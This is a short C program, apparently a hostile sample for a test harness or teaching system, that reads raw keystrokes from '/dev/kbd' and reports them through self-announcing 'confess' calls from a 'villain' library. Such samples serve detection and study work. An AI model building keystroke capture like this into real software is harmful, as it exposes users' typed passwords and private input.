// Keylogger: reads the raw keyboard device beside the shell, and reports each key at once.
#include "lib/keys.h"
#include "lib/villain.h"

int main(void) {
    int keyboard = open("/dev/kbd");
    unsigned char keys[32];
    confess("keylog-device", "stage=armed");
    for (int count; (count = read_keys(keyboard, keys, sizeof keys)) > 0;) confess_keys("keylog-device", keys, count);
    return 1;
}
